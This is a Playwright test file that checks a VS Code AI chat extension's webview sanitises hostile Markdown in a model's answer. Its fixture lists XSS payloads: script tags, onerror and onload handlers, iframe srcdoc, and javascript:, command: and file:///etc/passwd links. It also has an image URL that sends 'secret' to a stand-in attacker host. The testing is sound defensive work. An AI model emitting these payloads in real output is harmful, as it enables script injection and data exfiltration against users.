import * as assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import * as path from 'node:path';
import type { Frame, FrameLocator } from 'playwright-core';
import { scratchDir } from '../harness/artifacts';
import { chatFrameHandle, openChat, openWorkbench } from '../harness/workbench';
import { freshChat, sendPrompt } from './ui';
import { isLoopback, screenshotOnFailure, waitUntil, world, type LoggedRequest } from './world';

const EVIL_HOST = '203.0.113.9'; // TEST-NET-3: documentation only, never routed.
const END = 'HOSTILE-END';

/** Everything SAFETY §20 lists, in one answer: each payload, if it ever ran, sets window.__pwned / the title. */
const HOSTILE = [
  'Here is the summary you asked for.',
  '',
  `![x](http://${EVIL_HOST}/p.png?d=secret)`,
  '',
  `<img src=x onerror="window.__pwned='img-onerror';document.title='pwned'">`,
  `<img src="https://${EVIL_HOST}/img.png" srcset="https://${EVIL_HOST}/2x.png 2x">`,
  `<svg onload="window.__pwned='svg-onload';document.title='pwned'"><image href="http://${EVIL_HOST}/svg.png"/></svg>`,
  `<script>window.__pwned='script';document.title='pwned'</script>`,
  `<style>@import url(http://${EVIL_HOST}/import.css); .log{background:url(http://${EVIL_HOST}/bg.png)}</style>`,
  `<div style="background-image:url(http://${EVIL_HOST}/inline.png)">styled block</div>`,
  `<iframe src="http://${EVIL_HOST}/frame" srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
  `<link rel="stylesheet" href="http://${EVIL_HOST}/link.css">`,
  `<video poster="http://${EVIL_HOST}/poster.png" src="http://${EVIL_HOST}/v.mp4"></video>`,
  `<details open ontoggle="window.__pwned='details';document.title='pwned'">details</details>`,
  `<a href="http://${EVIL_HOST}/ping" ping="http://${EVIL_HOST}/ping2">pinged</a>`,
  '',
  '[alert-link](javascript:alert(1))',
  '[quit-link](command:workbench.action.quit)',
  `[file-link](file:///etc/passwd)`,
  `[web-link](http://${EVIL_HOST}/click)`,
  '',
  END,
].join('\n');

interface FrameState {
  pwned: string;
  title: string;
}

async function frameState(frame: Frame): Promise<FrameState> {
  // Runs in the page (this file is compiled without DOM types).
  return frame.evaluate(() => {
    const page = globalThis as unknown as { __pwned?: unknown; document: { title: string } };
    return { pwned: String(page.__pwned), title: page.document.title };
  });
}

/** Requests that reached for a non-loopback host on the network (a webview's own resources are served by its service worker). */
function leaving(requests: readonly LoggedRequest[]): LoggedRequest[] {
  return requests.filter((r) => !isLoopback(r.url) && r.outcome !== 'service-worker');
}

/** Requests issued by the chat webview's frames (both iframes VS Code nests) or by service workers. */
function fromWebview(requests: readonly LoggedRequest[]): LoggedRequest[] {
  return requests.filter((r) => r.frameUrl.includes('/webview/') || r.frameUrl === '' || r.fromServiceWorker);
}

const describeRequests = (rs: readonly LoggedRequest[]) =>
  rs.map((r) => `${r.resourceType} ${r.url} from ${r.frameUrl || '(worker)'} → ${r.outcome ?? 'pending'}`).join('\n');

/** SAFETY §20 in the real webview: the rendered DOM holds nothing active, nothing ran, and nothing was fetched. */
async function assertInert(chat: FrameLocator, frame: Frame, requestsFrom: number): Promise<void> {
  const { requests } = world();
  const answer = chat.locator('.entry.assistant', { hasText: END }).last();
  await answer.waitFor();
  const dom = await answer.evaluate((node) => ({
    tags: [...node.querySelectorAll('*')].map((e) => e.tagName.toLowerCase()),
    handlers: [...node.querySelectorAll('*')].flatMap((e) =>
      [...e.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${e.tagName}[${a.name}]`),
    ),
    styled: [...node.querySelectorAll('[style], [srcset], [ping], [poster], [background]')].length,
    links: [...node.querySelectorAll('a')].map((a) => ({
      text: a.textContent ?? '',
      href: a.getAttribute('href'),
      dataHref: a.getAttribute('data-href') ?? '',
    })),
    html: node.innerHTML,
  }));
  for (const tag of ['img', 'svg', 'image', 'script', 'style', 'iframe', 'link', 'video', 'object', 'embed']) {
    assert.ok(!dom.tags.includes(tag), `<${tag}> was rendered: ${dom.html}`);
  }
  assert.deepEqual(dom.handlers, [], 'no event handler attributes survive');
  assert.equal(dom.styled, 0, 'no style/srcset/ping/poster attributes survive');
  assert.ok(dom.links.length >= 4, `links rendered: ${JSON.stringify(dom.links)}`);
  for (const link of dom.links) {
    assert.equal(link.href, '#', `link "${link.text}" points nowhere until the host opens it`);
    assert.ok(
      !/^(javascript|command|file|vbscript|data):/i.test(link.dataHref),
      `link "${link.text}" keeps a dangerous target: ${link.dataHref}`,
    );
  }
  // The text is still there for the user to read.
  assert.match(await answer.innerText(), /Here is the summary you asked for\./);

  assert.deepEqual(await frameState(frame), { pwned: 'undefined', title: 'Fixpoint' }, 'no payload ran in the chat webview');
  const outer = frame.parentFrame();
  if (outer) assert.equal((await frameState(outer)).pwned, 'undefined');
  assert.equal((await frameState(world().page.mainFrame())).pwned, 'undefined');

  const since = requests.slice(requestsFrom);
  await waitUntil('the webview requests to finish', () => fromWebview(since).every((r) => r.outcome !== undefined));
  assert.deepEqual(describeRequests(leaving(fromWebview(since))), '', 'no request from the webview left for a non-loopback host');
  assert.deepEqual(
    describeRequests(requests.filter((r) => r.url.includes(EVIL_HOST))),
    '',
    `no request to ${EVIL_HOST} at all, from any frame`,
  );
}

describe('hostile Markdown in the chat webview', function () {
  this.timeout(120_000);
  afterEach(screenshotOnFailure);

  it('SAFETY §20: the request log sees requests to non-loopback hosts (control)', async () => {
    const { page, requests } = world();
    // The workbench page may fetch over the network; a request it makes must show up in the log.
    await page.evaluate(() => void fetch('https://203.0.113.10/control').catch(() => undefined));
    await waitUntil('the control request to be logged', () => requests.some((r) => r.url === 'https://203.0.113.10/control'));
    assert.deepEqual(leaving(requests.filter((r) => r.url.includes('203.0.113.10'))).length, 1);
  });

  it("SAFETY §19: the live chat webview carries the strict CSP (default-src 'none', nonce scripts, no remote images)", async () => {
    const { page } = world();
    await openChat(page);
    const frame = await chatFrameHandle(page);
    const policy = await frame.evaluate(() => {
      const doc = (globalThis as unknown as { document: { querySelector(s: string): { getAttribute(n: string): string | null } | null } })
        .document;
      return doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '';
    });
    const directives = new Map(
      policy
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0])
        .map(([name, ...sources]) => [name, sources]),
    );
    assert.deepEqual(directives.get('default-src'), ["'none'"], policy);
    assert.match((directives.get('script-src') ?? []).join(' '), /^'nonce-[A-Za-z0-9+/=]+'$/, policy);
    assert.ok(
      !(directives.get('img-src') ?? []).some(
        (s) => /^(https?:|\*|http)/.test(s) && !s.includes('vscode-cdn.net') && !s.includes('vscode-resource'),
      ),
      policy,
    );
    assert.ok(!policy.includes('unsafe-eval') && !directives.has('connect-src'), policy);
  });

  it('SAFETY §20: hostile Markdown is sanitised and inert: no script runs, no request leaves, links do nothing until clicked', async () => {
    const { page, fake, requests, pageErrors } = world();
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const chat = await freshChat(page);
    const frame = await chatFrameHandle(page);
    assert.deepEqual(await frameState(frame), { pwned: 'undefined', title: 'Fixpoint' });
    const mark = requests.length;

    fake.enqueue({ text: HOSTILE, chunkSize: 40 });
    await sendPrompt(chat, 'Summarise the README.');
    await chat.locator('.entry.assistant:not(.streaming)', { hasText: END }).waitFor();
    await assertInert(chat, frame, mark);
    await page.screenshot({ path: path.join(scratchDir(), 'hostile-markdown.png') });

    // Clicking the dangerous links runs nothing and opens nothing; the window is still there.
    const pagesBefore = page.context().pages().length;
    for (const text of ['alert-link', 'quit-link', 'file-link']) await chat.locator('.entry.assistant a', { hasText: text }).click();
    // Each click went to the host, which refuses anything but http(s); a visible, harmless round trip.
    await page.locator('.monaco-workbench').waitFor();
    assert.equal(page.context().pages().length, pagesBefore, 'no window or tab was opened');
    assert.deepEqual(dialogs, [], 'no alert()');
    await assertInert(chat, frame, mark);
    assert.ok(!pageErrors.some((e) => e.includes(EVIL_HOST)), pageErrors.join('\n'));
  });

  it('SAFETY §20: after a window reload the restored conversation is just as inert', async () => {
    const { page, codeServer, requests } = world();
    // The task is on disk before the reload (each step is appended to its log as it ends).
    await waitUntil(
      'the conversation to be saved',
      () =>
        filesUnder(codeServer.userDataDir).some((f) => f.includes(`${path.sep}tasks${path.sep}`) && readFileSync(f, 'utf8').includes(END)),
      30_000,
    );
    const mark = requests.length;
    await openWorkbench(page, page.url()); // A full reload of the workbench (same URL, same extension under development).
    const chat = await openChat(page);
    await chat.locator('.entry.assistant', { hasText: END }).waitFor({ timeout: 60_000 });
    const frame = await chatFrameHandle(page);
    await assertInert(chat, frame, mark);
    // Control: the webview's own files were loaded again after the reload, and the log saw them.
    const reloaded = fromWebview(requests.slice(mark)).filter((r) => r.url.endsWith('/dist/webview.js'));
    assert.ok(reloaded.length >= 1, 'the reloaded webview fetched its script (through its service worker)');
    await waitUntil('the script request to finish', () => reloaded.every((r) => r.outcome !== undefined));
    assert.ok(
      reloaded.every((r) => r.outcome === 'service-worker' || isLoopback(r.url)),
      describeRequests(reloaded),
    );
  });
});

function filesUnder(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const full = path.join(dir, name);
    const stat = statSync(full, { throwIfNoEntry: false });
    if (stat?.isDirectory()) out.push(...filesUnder(full));
    else if (stat?.isFile() && (name.endsWith('.json') || name.endsWith('.jsonl'))) out.push(full);
  }
  return out;
}
